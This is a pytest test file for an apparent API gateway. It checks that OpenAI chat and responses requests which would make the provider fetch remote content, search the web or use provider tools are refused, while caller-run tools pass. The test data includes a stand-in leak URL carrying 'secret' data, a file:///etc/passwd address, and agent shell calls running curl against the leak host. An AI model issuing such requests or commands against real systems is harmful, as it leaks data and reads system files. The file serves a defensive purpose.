"""OpenAI's API through an attacker's eyes."""

from __future__ import annotations

from typing import Any

import pytest

from tests.door.test_admission import let_in, refused

REMOTE = "https://leak.example.org/?data=secret"
INLINE = "data:image/png;base64,AAAA"


def user(*parts: Any) -> list[dict[str, Any]]:
    return [{"role": "user", "content": list(parts)}]


@pytest.mark.parametrize(
    ("messages", "named"),
    [
        (user({"type": "image_url", "image_url": {"url": REMOTE}}), "url"),
        (user({"type": "image_url", "image_url": REMOTE}), "image_url"),
        (user({"type": "image_url", "image_url": {"url": [REMOTE]}}), "url"),
        (user({"type": "image_url", "image_url": {"url": f" {REMOTE}"}}), "url"),
        (user({"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}), "url"),
        (user({"type": "image_url", "image_url": {"url": "leak.example.org"}}), "url"),
        (user({"type": "image_url", "image_url": {"url": INLINE, "fallback": REMOTE}}), "fallback"),
        (user({"type": "video_url", "video_url": {"url": REMOTE}}), "url"),
        (user({"type": "file", "file": {"file_id": "file-1"}}), "file_id"),
        (user({"type": "file", "file": {"file_data": REMOTE}}), "file_data"),
        (user({"type": "input_audio", "input_audio": {"data": REMOTE, "format": "wav"}}), "data"),
        (user({"type": "input_image", "image_url": INLINE}), "input_image"),
        (user({"type": "web_search_call"}), "web_search_call"),
        (user({"type": ["image_url"], "image_url": {"url": INLINE}}), "image_url"),
        (user({"image_url": {"url": REMOTE}}), "url"),
        ([{"role": "user", "content": {"image_url": REMOTE}}], "image_url"),
        ([{"role": "user", "content": "hi", "images": [REMOTE]}], "images"),
        ([{"role": "assistant", "audio": {"id": "audio_1"}}], "audio"),
        ([{"role": "tool", "tool_call_id": "1", "content": [{"type": "image_url", "image_url": {"url": REMOTE}}]}],
         "url"),
        ({"role": "user", "content": [{"type": "image_url", "image_url": REMOTE}]}, "image_url"),
    ],
)  # fmt: skip
def test_content_that_reaches_out_is_refused_by_name(messages: Any, named: str) -> None:
    refusal = refused("chat", messages=messages)
    assert (refusal.status, refusal.code) == (403, "pithy_refused")
    assert named in refusal.message
    assert "leak.example.org" not in refusal.message


def test_an_address_in_a_prediction_is_refused() -> None:
    content = [{"type": "image_url", "image_url": REMOTE}]
    assert refused("chat", prediction={"type": "content", "content": content}).status == 403


def test_ordinary_conversations_pass_as_they_are() -> None:
    messages: list[dict[str, Any]] = [
        {"role": "developer", "content": f"{REMOTE} is only text here"},
        {"role": "user", "name": "ann", "content": [
            REMOTE, {"type": "text", "text": REMOTE}, {"type": "image_url", "image_url": {"url": INLINE}},
            {"type": "file", "file": {"file_data": "JVBERi0=", "filename": "a.pdf"}},
            {"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}},
        ]},
        {"role": "assistant", "content": None, "refusal": None, "tool_calls": [
            {"id": "1", "type": "function", "function": {"name": "fetch", "arguments": f'{{"url": "{REMOTE}"}}'}},
            {"id": "2", "type": "function", "function": {"name": "fetch", "arguments": {"url": REMOTE}}},
            {"id": "3", "type": "custom", "custom": {"name": "sh", "input": REMOTE}},
        ]},
        {"role": "tool", "tool_call_id": "1", "content": REMOTE},
    ]  # fmt: skip
    assert let_in("chat", messages=messages)[1]["messages"] == messages


@pytest.mark.parametrize("field", ["web_search_options", "plugins", "search_parameters", "mcp_servers"])
def test_a_search_by_the_provider_is_refused(field: str) -> None:
    for value in ({"a": 1}, [1], True, "x"):
        refusal = refused("chat", **{field: value})
        assert (refusal.status, field in refusal.message) == (403, True)
    assert field not in let_in("chat", **{field: None})[1]


@pytest.mark.parametrize(
    "tool",
    [
        {"type": "web_search"},
        {"type": "builtin_function", "function": {"name": "$web_search"}},
        {"type": "mcp", "server_url": REMOTE},
        {"google_search": {}},
        {"type": None, "function": {"name": "f"}},
        {"type": ["function"]},
        {"type": "shell", "environment": {"type": "local"}},
    ],
)
def test_chat_tools_are_the_callers_own(tool: Any) -> None:
    refusal = refused("chat", tools=[{"type": "function", "function": {"name": "f"}}, tool])
    assert (refusal.status, refusal.code) == (403, "pithy_refused")


@pytest.mark.parametrize("api", ["chat", "response", "message"])
@pytest.mark.parametrize("tools", [{}, "web_search", 5, ["web_search"], [[]]])
def test_tools_are_a_list(api: str, tools: Any) -> None:
    assert refused(api, tools=tools).status == 400


def test_own_tools_pass_with_their_schemas() -> None:
    schema = {"type": "object", "properties": {"url": {"type": "string", "default": REMOTE}}}
    tools = [
        {"type": "function", "function": {"name": "fetch", "parameters": schema}},
        {"type": "custom", "custom": {"name": "sh"}},
    ]
    assert let_in("chat", tools=tools, tool_choice="auto")[1]["tools"] == tools


def test_a_stream_is_asked_for_its_usage_and_nothing_else_is() -> None:
    assert let_in("chat", stream=True)[1]["stream_options"] == {"include_usage": True}
    for options in ({"include_usage": False}, "no", None):
        assert let_in("chat", stream=True, stream_options=options)[1]["stream_options"] == {"include_usage": True}
    assert "stream_options" not in let_in("chat", stream_options={"include_usage": True})[1]


def test_one_answer_is_made_and_none_is_stored() -> None:
    body = let_in("chat", n=50, store=True, metadata={"a": "b"})[1]
    assert not {"n", "store", "metadata"} & set(body)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("background", True),
        ("conversation", "conv_1"),
        ("conversation", {"id": "conv_1"}),
        ("previous_response_id", "resp_1"),
        ("prompt", {"id": "pmpt_1"}),
    ],
)
def test_a_response_leans_on_nothing_that_is_stored(field: str, value: Any) -> None:
    refusal = refused("response", **{field: value})
    assert (refusal.status, field in refusal.message) == (403, True)


@pytest.mark.parametrize("asked", [{}, {"store": True}, {"store": None}])
def test_a_response_is_never_stored(asked: dict[str, Any]) -> None:
    assert let_in("response", background=False, previous_response_id=None, **asked)[1]["store"] is False


@pytest.mark.parametrize(
    "item",
    [
        {"type": "item_reference", "id": "msg_1"},
        {"id": "msg_1"},
        {"id": "msg_1", "type": None},
        {"role": "user", "id": "msg_1"},
        {"role": "user", "content": [{"type": "input_image", "image_url": REMOTE}]},
        {"role": "user", "content": [{"type": "input_image", "file_id": "file-1"}]},
        {"role": "user", "content": [{"type": "input_file", "file_url": REMOTE}]},
        {"role": "user", "content": [{"type": "input_file", "file_data": REMOTE}]},
        {"type": "function_call_output", "call_id": "1", "output": [{"type": "input_image", "image_url": REMOTE}]},
        {"type": "computer_call_output", "output": {"type": "computer_screenshot", "image_url": REMOTE}},
        {"type": "computer_call_output", "output": {"type": "computer_screenshot", "file_id": "file-1"}},
        {"type": "additional_tools", "role": "developer", "tools": [{"type": "web_search"}]},
        {"type": "tool_search_output", "tools": [{"type": "mcp", "server_url": REMOTE}]},
        {"type": "configuration_update", "text": {}},
        {"type": "mcp_approval_response", "approve": True},
        {"type": "image_generation_call", "id": "1"},
        {"type": "code_interpreter_call", "container_id": "c"},
        {"type": "program", "code": "fetch()"},
        {"type": "shell_call", "environment": {"type": "container_reference", "container_id": "c"}, "action": {}},
    ],
)
def test_an_item_that_reaches_out_is_refused(item: dict[str, Any]) -> None:
    refusal = refused("response", input=[{"role": "user", "content": "hi"}, item])
    assert (refusal.status, refusal.code) == (403, "pithy_refused")


def test_items_are_objects() -> None:
    assert refused("response", input=["hi"]).status == 400


def test_the_items_of_an_agent_pass_as_they_are() -> None:
    items: list[dict[str, Any]] = [
        {"role": "user", "content": REMOTE},
        {"type": "message", "role": "user", "content": [
            {"type": "input_text", "text": REMOTE}, {"type": "input_image", "image_url": INLINE},
            {"type": "input_file", "file_data": "data:application/pdf;base64,AA==", "filename": "a.pdf"},
        ]},
        {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": "s"}],
         "encrypted_content": "x"},
        {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [
            {"type": "output_text", "text": "t", "annotations": []}, {"type": "refusal", "refusal": "no"},
        ]},
        {"type": "function_call", "call_id": "1", "name": "fetch", "arguments": f'{{"url": "{REMOTE}"}}'},
        {"type": "function_call_output", "call_id": "1", "output": REMOTE},
        {"type": "custom_tool_call", "call_id": "2", "name": "sh", "input": REMOTE},
        {"type": "custom_tool_call_output", "call_id": "2", "output": [{"type": "input_text", "text": "t"}]},
        {"type": "local_shell_call", "id": "1", "call_id": "3", "status": "completed",
         "action": {"type": "exec", "command": ["curl", REMOTE], "env": {"URL": REMOTE}}},
        {"type": "shell_call", "call_id": "4", "action": {"commands": [f"curl {REMOTE}"]},
         "environment": {"type": "local"}},
        {"type": "shell_call_output", "call_id": "4", "output": [
            {"stdout": REMOTE, "stderr": "", "outcome": {"type": "exit", "exit_code": 0}},
        ]},
        {"type": "apply_patch_call", "call_id": "5", "status": "completed",
         "operation": {"type": "create_file", "path": "a", "diff": "+x"}},
        {"type": "computer_call", "id": "1", "call_id": "6", "status": "completed", "pending_safety_checks": [],
         "action": {"type": "type", "text": REMOTE}},
    ]  # fmt: skip
    assert let_in("response", input=items)[1]["input"] == items


@pytest.mark.parametrize(
    "tool",
    [
        {"type": "web_search"},
        {"type": "web_search_preview"},
        {"type": "web_search_2025_08_26"},
        {"type": "file_search", "vector_store_ids": ["vs_1"]},
        {"type": "code_interpreter", "container": {"type": "auto"}},
        {"type": "image_generation"},
        {"type": "mcp", "server_label": "x", "server_url": REMOTE},
        {"type": "mcp", "server_label": "x", "connector_id": "connector_gmail"},
        {"type": "tool_search"},
        {"type": "programmatic_tool_calling"},
        {"type": "shell"},
        {"type": "shell", "environment": None},
        {"type": "shell", "environment": {"type": "container_auto"}},
        {"type": "shell", "environment": {"type": "container_reference", "container_id": "c"}},
        {"type": "namespace", "name": "n", "tools": [{"type": "mcp", "server_url": REMOTE}]},
        {"type": "namespace", "name": "n", "tools": [{"type": "namespace", "tools": [{"type": "web_search"}]}]},
        {},
    ],
)
def test_a_tool_of_the_providers_is_refused(tool: dict[str, Any]) -> None:
    refusal = refused("response", tools=[tool])
    assert (refusal.status, refusal.code) == (403, "pithy_refused")


def test_the_tools_that_the_caller_runs_pass() -> None:
    tools: list[dict[str, Any]] = [
        {"type": "function", "name": "f", "parameters": {"type": "object", "properties": {}}, "strict": True},
        {"type": "custom", "name": "c"},
        {"type": "local_shell"},
        {"type": "shell", "environment": {"type": "local"}},
        {"type": "apply_patch"},
        {"type": "computer"},
        {"type": "computer_use_preview", "display_width": 1, "display_height": 1, "environment": "linux"},
        {"type": "namespace", "name": "n", "description": "d", "tools": [{"type": "function", "name": "f"}]},
    ]
    assert let_in("response", tools=tools)[1]["tools"] == tools


@pytest.mark.parametrize("texts", ["hi", ["hi", REMOTE], [1, 2, 3], [[1, 2], [3]]])
def test_texts_and_tokens_are_embedded(texts: Any) -> None:
    assert let_in("embedding", input=texts, encoding_format="base64")[1]["input"] == texts


@pytest.mark.parametrize("texts", [{"image": REMOTE}, [{"image_url": REMOTE}], [["a", {}]], None, [None], [1.5]])
def test_nothing_else_is_embedded(texts: Any) -> None:
    assert refused("embedding", input=texts).status == 400
